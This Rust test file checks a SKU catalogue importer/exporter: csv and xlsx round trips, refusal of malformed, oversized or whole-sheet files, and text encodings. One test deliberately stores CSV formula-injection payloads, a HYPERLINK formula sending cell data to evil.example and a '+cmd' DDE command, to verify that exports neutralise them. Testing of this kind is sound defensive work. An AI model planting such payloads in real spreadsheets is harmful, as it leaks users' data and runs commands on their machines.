//! SKU catalogue import / export: round trips through csv and xlsx, a workbook written by
//! openpyxl, broken files refused with row-level messages and the store left unchanged, text
//! encodings, near-miss warnings, and a 60,000-row timing (ignored test; run with --release).

use std::path::{Path, PathBuf};

use shipdeck::catalogue::import::{self, ImportOptions};
use shipdeck::catalogue::{export, ImportReport, TextEncoding};
use shipdeck::domain::mapping::SiteCode;
use shipdeck::domain::{Mapping, ShopName, Site, Sku, SkuCode};
use shipdeck::store::Store;

fn store() -> (tempfile::TempDir, Store) {
    let tmp = tempfile::tempdir().unwrap();
    let store = Store::open(&tmp.path().join("db")).unwrap();
    (tmp, store)
}

fn sku(code: &str, name: &str, option: Option<&str>, on_hand: i64) -> Sku {
    Sku {
        code: SkuCode::new(code).unwrap(),
        name: name.into(),
        option_name: option.map(String::from),
        on_hand,
        reserved: 0,
    }
}

fn mapping(site: Site, shop: Option<&str>, code: SiteCode, sku: &str) -> Mapping {
    Mapping {
        site,
        shop: shop.map(|s| ShopName::new(s).unwrap()),
        code,
        sku: SkuCode::new(sku).unwrap(),
        product_code: None,
    }
}

fn snapshot(store: &Store) -> (Vec<Sku>, Vec<Mapping>) {
    (store.list_skus().unwrap(), store.list_mappings(None).unwrap())
}

fn run(store: &Store, path: &Path, encoding: Option<TextEncoding>) -> ImportReport {
    let plan = import::plan(store, path, &ImportOptions { encoding }).unwrap();
    import::apply(store, plan).unwrap()
}

fn seed(store: &Store) {
    for s in [
        sku("ABC-01", "Tシャツ 白", Some("Sサイズ"), 12),
        sku("007", "머그컵", None, 0),
        sku("ＡＢＣ-01", "full width twin", None, 3),
        sku(
            "SP",
            " spaced name ",
            Some("a, \"quoted\"\nsecond line"),
            1_000_000,
        ),
        sku("NOMAP", "no mappings", Some(""), 5),
    ] {
        store.put_sku(&s).unwrap();
    }
    for m in [
        mapping(
            Site::Crossmall,
            None,
            SiteCode::Crossmall {
                item_code: "1001".into(),
                item_name: "Tシャツ 白".into(),
                option_text: "ホワイト, Sサイズ ".into(),
            },
            "ABC-01",
        ),
        mapping(
            Site::Crossmall,
            Some("cm-shop"),
            SiteCode::Crossmall {
                item_code: "1002".into(),
                item_name: "マグ".into(),
                option_text: String::new(),
            },
            "007",
        ),
        mapping(
            Site::Qoo10,
            Some("qoo-jp"),
            SiteCode::Option {
                code: "OPT-W-S".into(),
            },
            "ABC-01",
        ),
        mapping(
            Site::Gmarket,
            None,
            SiteCode::Product { code: "0123".into() },
            "007",
        ),
        mapping(Site::Grip, None, SiteCode::Product { code: "G 1 ".into() }, "SP"),
        mapping(
            Site::Lotteon,
            None,
            SiteCode::Option { code: "LO-1".into() },
            "SP",
        ),
    ] {
        store.put_mapping(&m).unwrap();
    }
}

#[test]
fn export_then_import_gives_the_same_catalogue_and_mappings() {
    for ext in ["csv", "xlsx"] {
        let (tmp, a) = store();
        seed(&a);
        let path = tmp.path().join(format!("catalogue.{ext}"));
        let exported = export::export(&a, &path).unwrap();
        assert_eq!((exported.skus, exported.mappings), (5, 6), "{ext}");
        if ext == "csv" {
            assert!(tmp.path().join("catalogue.mismatches.csv").exists());
        }
        let mut want = snapshot(&a);
        // An empty option name is not kept apart from none.
        want.0[2].option_name = None;
        let (_tmp2, b) = store();
        let report = run(&b, &path, None);
        assert!(report.ok(), "{ext}: {report}");
        assert!(report.applied);
        assert_eq!((report.skus_new, report.mappings_new), (5, 6), "{ext}: {report}");
        assert_eq!(snapshot(&b), want, "{ext}");
        // Again into the same store: nothing changes.
        let again = run(&b, &path, None);
        assert_eq!(
            (again.skus_new, again.skus_changed, again.skus_unchanged),
            (0, 0, 5),
            "{ext}: {again}"
        );
        assert_eq!(
            (
                again.mappings_new,
                again.mappings_changed,
                again.mappings_unchanged
            ),
            (0, 0, 6)
        );
        assert_eq!(snapshot(&b), want, "{ext}");
        // Near misses are reported, not fixed.
        assert!(
            report
                .warnings
                .iter()
                .any(|w| w.message.contains("only by width")),
            "{ext}: {report}"
        );
        assert!(
            report
                .warnings
                .iter()
                .any(|w| w.message.contains("ホワイト, Sサイズ ")
                    && w.column
                        .as_deref()
                        .unwrap_or("")
                        .contains("crossmall option text")),
            "{ext}: {report}"
        );
    }
}

#[test]
fn reserved_quantities_survive_an_import() {
    let (tmp, s) = store();
    let mut one = sku("R-1", "r", None, 10);
    one.reserved = 4;
    s.put_sku(&one).unwrap();
    let p = tmp.path().join("r.csv");
    std::fs::write(&p, "sku code,sku name,on hand\nR-1,r,20\n").unwrap();
    let report = run(&s, &p, None);
    assert_eq!(report.skus_changed, 1, "{report}");
    let got = s.get_sku(&SkuCode::new("R-1").unwrap()).unwrap().unwrap();
    assert_eq!((got.on_hand, got.reserved), (20, 4));
}

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(name)
}

#[test]
fn an_xlsx_written_by_openpyxl_imports() {
    let (_tmp, s) = store();
    let report = run(&s, &fixture("sku_openpyxl.xlsx"), None);
    assert!(report.ok(), "{report}");
    assert_eq!(report.format, "xlsx");
    assert_eq!(report.rows, 5, "{report}");
    assert_eq!((report.skus_new, report.mappings_new), (3, 4), "{report}");
    let (skus, maps) = snapshot(&s);
    let ts = skus.iter().find(|k| k.code.as_str() == "TS-W-S").unwrap();
    assert_eq!(
        (ts.name.as_str(), ts.option_name.as_deref(), ts.on_hand),
        ("Tシャツ 白", Some("Sサイズ"), 12)
    );
    let cap = skus.iter().find(|k| k.code.as_str() == "CAP-9").unwrap();
    assert_eq!(cap.on_hand, 340);
    assert!(maps.contains(&mapping(
        Site::Crossmall,
        None,
        SiteCode::Crossmall {
            item_code: "1001".into(),
            item_name: "Tシャツ 白".into(),
            option_text: "ホワイト,Sサイズ".into(),
        },
        "TS-W-S"
    )));
    assert!(maps.contains(&mapping(
        Site::Auction,
        None,
        SiteCode::Product { code: "2001".into() },
        "MUG-01"
    )));
    assert!(maps.contains(&mapping(
        Site::Qoo10,
        Some("qoo-jp"),
        SiteCode::Option {
            code: "OPT-W-S".into()
        },
        "TS-W-S"
    )));
    // The shop is not connected: said, and kept.
    assert!(
        report.warnings.iter().any(|w| w.message.contains("qoo-jp")),
        "{report}"
    );
}

/// Imports `bytes` as `name` into a seeded store; asserts that nothing was written.
fn refused(name: &str, bytes: &[u8]) -> ImportReport {
    let (tmp, s) = store();
    seed(&s);
    let before = snapshot(&s);
    let p = tmp.path().join(name);
    std::fs::write(&p, bytes).unwrap();
    let report = run(&s, &p, None);
    assert!(!report.ok(), "{name} was accepted: {report}");
    assert!(!report.applied);
    assert_eq!(snapshot(&s), before, "{name} changed the store");
    for e in &report.errors {
        assert!(e.to_string().contains(name), "{e}");
    }
    report
}

#[test]
fn wrong_columns_are_refused_naming_the_header() {
    let r = refused("wrong.csv", b"sku code,price,on hand\nA,100,1\n");
    assert_eq!(r.errors.len(), 1, "{r}");
    assert_eq!(r.errors[0].row, Some(1));
    assert!(r.errors[0].message.contains("`price`"), "{r}");
    let r = refused("nocode.csv", b"sku name,on hand\nA,1\n");
    assert!(r.errors[0].message.contains("no SKU code column"), "{r}");
}

#[test]
fn binary_junk_and_empty_files_are_refused() {
    let junk: Vec<u8> = (0..4096u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    let r = refused("junk.csv", &junk);
    assert!(r.errors[0].message.contains("not a text file"), "{r}");
    let r = refused("junk.xlsx", &junk);
    assert!(r.errors[0].message.contains("not a readable spreadsheet"), "{r}");
    let mut zipish = b"PK\x03\x04".to_vec();
    zipish.extend(&junk);
    refused("zipish.csv", &zipish);
    let r = refused("empty.csv", b"");
    assert!(r.errors[0].message.contains("empty"), "{r}");
    let r = refused("blank.csv", b"\n\n  \n");
    assert!(r.errors[0].message.contains("empty"), "{r}");
    refused("empty.xlsx", b"");
}

#[test]
fn one_bad_row_among_ten_thousand_is_refused_with_its_row() {
    let mut text = String::from("sku code,sku name,option name,on hand,site,shop,product code\n");
    for i in 0..10_000 {
        let qty = if i == 5_000 {
            "x".to_string()
        } else {
            i.to_string()
        };
        text.push_str(&format!("S-{i},name {i},,{qty},gmarket,,P-{i}\n"));
    }
    let r = refused("big.csv", text.as_bytes());
    assert_eq!(r.errors.len(), 1, "{r}");
    let e = &r.errors[0];
    assert_eq!(
        (e.row, e.column.as_deref()),
        (Some(5_002), Some("on hand")),
        "{e}"
    );
    assert!(e.message.contains("`x`"), "{e}");
    assert_eq!(r.rows, 10_000);
}

#[test]
fn duplicates_conflicts_and_unknown_skus_are_errors() {
    let r = refused(
        "dup.csv",
        "sku code,sku name,on hand,site,shop,product code,option code\n\
         A,a,1,,,,\n\
         A,a,1,,,,\n\
         B,b,1,grip,,P1,\n\
         B,b,2,grip,,P2,\n\
         C,c,1,grip,,P1,\n\
         D,d,1,qoo10,,X,Y\n\
         ,,,grip,,P9,\n\
         Z,,,grip,,P8,\n\
         E,e,-1,,,,\n\
         F,f,５,,,,\n\
         G,g,1,lotteon,,,\n\
         H,h,1,amazon,,P,\n"
            .as_bytes(),
    );
    let at = |row: u32| -> Vec<String> {
        r.errors
            .iter()
            .filter(|e| e.row == Some(row))
            .map(|e| e.to_string())
            .collect()
    };
    assert!(
        at(3).iter().any(|e| e.contains("duplicate SKU A (also row 2)")),
        "{r}"
    );
    assert!(at(5).iter().any(|e| e.contains("conflicting SKU fields")), "{r}");
    assert!(at(6).iter().any(|e| e.contains("conflicting mapping")), "{r}");
    // Both a product and an option code: accepted (the option code matches).
    assert!(at(7).is_empty(), "{r}");
    assert!(
        at(8)
            .iter()
            .any(|e| e.contains("sku code") && e.contains("empty")),
        "{r}"
    );
    assert!(
        at(9)
            .iter()
            .any(|e| e.contains("neither in this file nor in the store")),
        "{r}"
    );
    assert!(at(10).iter().any(|e| e.contains("negative")), "{r}");
    assert!(at(11).iter().any(|e| e.contains("full-width digits")), "{r}");
    assert!(
        at(12)
            .iter()
            .any(|e| e.contains("product code or an option code")),
        "{r}"
    );
    assert!(at(13).iter().any(|e| e.contains("unknown site `amazon`")), "{r}");
}

#[test]
fn a_mapping_only_row_may_name_a_stored_sku() {
    let (tmp, s) = store();
    seed(&s);
    let p = tmp.path().join("m.csv");
    std::fs::write(
        &p,
        "sku code,site,shop,option code\n007,LotteON,,LO-7\nABC-01,lotteon,,LO-1\n",
    )
    .unwrap();
    let r = run(&s, &p, None);
    assert!(r.ok(), "{r}");
    assert_eq!((r.mappings_new, r.mappings_changed, r.skus_new), (1, 1, 0), "{r}");
    assert_eq!(
        s.list_mappings(Some(Site::Lotteon)).unwrap().len(),
        2,
        "LO-1 now leads to ABC-01 and LO-7 is new"
    );
}

#[test]
fn dry_run_plans_without_writing() {
    let (tmp, s) = store();
    let p = tmp.path().join("d.csv");
    std::fs::write(&p, "sku code,sku name,on hand\nA,a,1\n").unwrap();
    let plan = import::plan(&s, &p, &ImportOptions::default()).unwrap();
    assert_eq!(plan.report.skus_new, 1);
    assert!(s.list_skus().unwrap().is_empty());
}

#[test]
fn shift_jis_and_cp949_files_are_detected_or_chosen() {
    let (tmp, s) = store();
    let (sjis, _, bad) =
        encoding_rs::SHIFT_JIS.encode("SKUコード,商品名,オプション名,在庫数\nJ-1,Tシャツ,白,3\n");
    assert!(!bad);
    let p = tmp.path().join("sjis.csv");
    std::fs::write(&p, &sjis).unwrap();
    let r = run(&s, &p, None);
    assert!(r.ok(), "{r}");
    assert_eq!(r.format, "csv (shift_jis)");
    let (kr, _, bad) = encoding_rs::EUC_KR.encode("판매자코드,상품명,옵션명,재고\nK-1,티셔츠,흰색,4\n");
    assert!(!bad);
    let p2 = tmp.path().join("kr.csv");
    std::fs::write(&p2, &kr).unwrap();
    let r = run(&s, &p2, Some(TextEncoding::Cp949));
    assert!(r.ok(), "{r}");
    assert_eq!(r.format, "csv (cp949)");
    let r = run(&s, &p2, None);
    assert_eq!(r.format, "csv (cp949)", "{r}");
    let names: Vec<String> = s.list_skus().unwrap().into_iter().map(|k| k.name).collect();
    assert_eq!(names, ["Tシャツ", "티셔츠"]);
    // Forced wrongly: refused, nothing written.
    let r = run(&s, &p, Some(TextEncoding::Utf8));
    assert!(!r.ok() && !r.applied, "{r}");
    assert!(r.errors[0].message.contains("UTF-8"), "{r}");
}

fn shipdeck(home: &Path, args: &[&str]) -> std::process::Output {
    std::process::Command::new(env!("CARGO_BIN_EXE_shipdeck"))
        .args(args)
        .env_clear()
        .env("HOME", home)
        .env("XDG_CONFIG_HOME", home.join("config"))
        .env("XDG_DATA_HOME", home.join("data"))
        .env("XDG_STATE_HOME", home.join("state"))
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .output()
        .unwrap()
}

#[test]
fn cli_sku_import_and_export() {
    let tmp = tempfile::tempdir().unwrap();
    let home = tmp.path();
    let bad = home.join("bad.csv");
    std::fs::write(&bad, "sku code,sku name,on hand\nA,a,1\nB,b,many\n").unwrap();
    let out = shipdeck(home, &["sku", "import", bad.to_str().unwrap()]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(2), "{stdout}");
    assert!(stdout.contains("row 3, column on hand"), "{stdout}");
    let good = home.join("good.csv");
    std::fs::write(
        &good,
        "sku code,sku name,on hand,site,product code\nA,a,1,grip,P-A\n",
    )
    .unwrap();
    let out = shipdeck(
        home,
        &["sku", "import", "--dry-run", "--json", good.to_str().unwrap()],
    );
    assert_eq!(out.status.code(), Some(0));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        (report["skus_new"].as_u64(), report["applied"].as_bool()),
        (Some(1), Some(false))
    );
    let out = shipdeck(home, &["sku", "import", "--json", good.to_str().unwrap()]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["applied"].as_bool(), Some(true));
    let x = home.join("out.xlsx");
    let out = shipdeck(home, &["sku", "export", x.to_str().unwrap()]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = shipdeck(home, &["sku", "import", "--json", x.to_str().unwrap()]);
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        (
            report["skus_unchanged"].as_u64(),
            report["mappings_unchanged"].as_u64()
        ),
        (Some(1), Some(1)),
        "{report}"
    );
    let out = shipdeck(
        home,
        &["sku", "import", "--encoding", "latin1", good.to_str().unwrap()],
    );
    assert_eq!(out.status.code(), Some(2));
}

/// A workbook of a few cells whose used range is the whole sheet: A1 … XFD1048576.
fn whole_grid_xlsx(path: &Path) {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    sheet.write_string(0, 0, "sku code").unwrap();
    sheet.write_string(0, 1, "sku name").unwrap();
    sheet.write_string(1, 0, "A").unwrap();
    sheet.write_string(1, 1, "a").unwrap();
    sheet.write_string(1_048_575, 16_383, "x").unwrap();
    book.save(path).unwrap();
}

#[test]
fn a_tiny_xlsx_spanning_the_whole_sheet_is_refused_before_any_grid_is_built() {
    let tmp = tempfile::tempdir().unwrap();
    let p = tmp.path().join("g.xlsx");
    whole_grid_xlsx(&p);
    let bytes = std::fs::read(&p).unwrap();
    assert!(bytes.len() < 16 * 1024, "{} bytes", bytes.len());
    let r = refused("huge.xlsx", &bytes);
    let m = &r.errors[0].message;
    assert!(
        m.contains("A1 to XFD1048576") && m.contains("1048576 rows × 16384 columns"),
        "{m}"
    );
    assert!(
        m.contains(&shipdeck::catalogue::read::MAX_SHEET_CELLS.to_string()),
        "{m}"
    );
    // From the command line: exit status 2 and the same reason.
    let out = shipdeck(tmp.path(), &["sku", "import", p.to_str().unwrap()]);
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("XFD1048576"));
}

#[test]
fn files_over_the_size_cap_and_old_spreadsheet_formats_are_refused() {
    use shipdeck::catalogue::read::MAX_SKU_FILE_BYTES;
    let (tmp, s) = store();
    let p = tmp.path().join("big.csv");
    let f = std::fs::File::create(&p).unwrap();
    f.set_len(MAX_SKU_FILE_BYTES + 1).unwrap();
    let r = run(&s, &p, None);
    assert!(!r.ok());
    let m = &r.errors[0].message;
    assert!(
        m.contains(&MAX_SKU_FILE_BYTES.to_string()) && m.contains("64 MiB"),
        "{m}"
    );
    let r = refused("old.xls", &[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0]);
    assert!(
        r.errors[0].message.contains("save the file as .xlsx or .csv"),
        "{r}"
    );
}

#[test]
fn exported_csv_cells_never_run_as_formulas_and_import_back_unchanged() {
    let (tmp, a) = store();
    let evil = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";
    a.put_sku(&sku("EV-1", evil, Some("+cmd|' /C calc'!A0"), 3))
        .unwrap();
    a.put_sku(&sku("EV-2", "@SUM(1)", Some("'=quoted already"), 1))
        .unwrap();
    a.put_mapping(&mapping(
        Site::Grip,
        None,
        SiteCode::Product { code: "-1+1".into() },
        "EV-1",
    ))
    .unwrap();
    let path = tmp.path().join("evil.csv");
    export::export(&a, &path).unwrap();
    let text = std::fs::read_to_string(&path).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    for rec in reader.records() {
        for cell in rec.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '@']) && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
    assert!(text.contains("'=HYPERLINK"), "{text}");
    let (_tmp2, b) = store();
    let report = run(&b, &path, None);
    assert!(report.ok(), "{report}");
    assert_eq!(snapshot(&b), snapshot(&a));
}

#[test]
fn a_row_with_both_codes_maps_by_option_code_keeps_the_product_code_and_says_how_rows_match() {
    let tmp = tempfile::tempdir().unwrap();
    let store = Store::open(&tmp.path().join("db")).unwrap();
    let p = tmp.path().join("both.csv");
    std::fs::write(
        &p,
        "sku code,sku name,option name,on hand,site,shop,product code,option code\n\
         TS-RED-M,T-shirt,red M,5,qoo10,,TS-100,TS-100-RM\n\
         MUG,Mug,,3,qoo10,,MUG-1,\n\
         CAP,Cap,,2,gmarket,,,CAP-OPT\n",
    )
    .unwrap();
    let r = import::apply(
        &store,
        import::plan(&store, &p, &ImportOptions::default()).unwrap(),
    )
    .unwrap();
    assert!(r.ok(), "{r}");
    assert!(r.applied);
    let m = store.list_mappings(None).unwrap();
    let both = m.iter().find(|m| m.sku.as_str() == "TS-RED-M").unwrap();
    assert_eq!(
        both.code,
        SiteCode::Option {
            code: "TS-100-RM".into()
        }
    );
    assert_eq!(both.product_code.as_deref(), Some("TS-100"));
    // The report says how each row will match.
    let rule = |k: &str| r.matching.get(k).copied().unwrap_or(0);
    assert_eq!(
        rule("by option code, where the line's product code is the one given"),
        1,
        "{r}"
    );
    assert_eq!(rule("by product code"), 1, "{r}");
    assert_eq!(rule("by option code"), 1, "{r}");
    let text = r.to_string();
    assert!(
        text.contains(
            "1 mapping rows match order lines by option code, where the line's product code is the one given"
        ),
        "{text}"
    );
    // The export writes the kept product code back, and reads back unchanged.
    let out = tmp.path().join("out.csv");
    export::export(&store, &out).unwrap();
    let exported = std::fs::read_to_string(&out).unwrap();
    assert!(
        exported
            .lines()
            .any(|l| l.contains("TS-100") && l.contains("TS-100-RM")),
        "{exported}"
    );
    let again = import::plan(&store, &out, &ImportOptions::default())
        .unwrap()
        .report;
    assert_eq!((again.mappings_new, again.mappings_changed), (0, 0), "{again}");
}
